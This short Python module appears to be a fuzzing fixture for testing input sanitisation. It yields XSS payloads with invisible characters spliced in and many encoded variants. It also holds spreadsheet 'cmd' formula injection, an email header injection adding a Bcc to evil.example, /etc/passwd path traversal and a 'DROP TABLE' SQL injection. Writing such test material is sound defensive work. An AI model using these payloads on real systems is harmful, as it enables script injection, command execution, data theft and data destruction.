"""Signs that readers drop, fold, turn round or pile up, around something live."""

from collections.abc import Iterator
from itertools import product

ODD = (
    "\x00\x01\x08\x0b\x0c\x1b\x7f\x80\x85\xa0\xad\u034f\u061c\u200b\u200e\u202e\u2028"
    "\u2029\u2066\u2069\ufeff\ufff9\ufffe\U000e0041\U0001f1e6"
)
SPOTS = (
    "<{0}script>hit()</script>",
    "<scr{0}ipt>hit()</scr{0}ipt>",
    "<img{0}src=x{0}onerror=hit()>",
    "<img src=x onerror{0}=hit()>",
    "[a](java{0}script:hit())",
)
CODED = (
    "＜script＞hit()＜/script＞",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "%3Cscript%3Ehit()%3C/script%3E",
    "%253Cscript%253Ehit()%253C/script%253E",
    "\\u003cimg src=x onerror=hit()\\u003e",
    "\\x3cimg src=x onerror=hit()\\x3e",
    "&#60;img src=x onerror=hit()&#62;",
    "&#x3c;img src=x onerror=hit()&#x3e;",
    "&amp;lt;img src=x onerror=hit()&amp;gt;",
    "&lt&#x0000003cimg src=x onerror=hit()>",
    "À¼script¾hit()",
    "ſcript:<ſcript>hit()</ſcript>",
    "<İmg src=x onerror=hit()>",
    "\u202e>()tih=rorreno x=crs gmi<\u202c",
    "Z" + "\u0335\u0301\u0316" * 200 + "algo",
    "W" * 3_000,
    "W\u2060" * 800,
    "\u200f" * 200 + "<b>a",
    "ﷺ﷽" * 300,
    "𒐫" * 300,
    "\u3164" * 500,
    "\t" * 500 + "a",
    "a " * 2_000,
    "👩‍👩‍👧‍👦" * 200,
    "-" * 500 + ">",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\r\nBcc: all@evil.example\r\n\r\nhit()",
    "../../../../etc/passwd",
    "'; DROP TABLE summaries_summary; --",
    '" OR 1=1 --',
)


def payloads() -> Iterator[str]:
    for sign, spot in product(ODD, SPOTS):
        yield spot.format(sign)
    yield from CODED
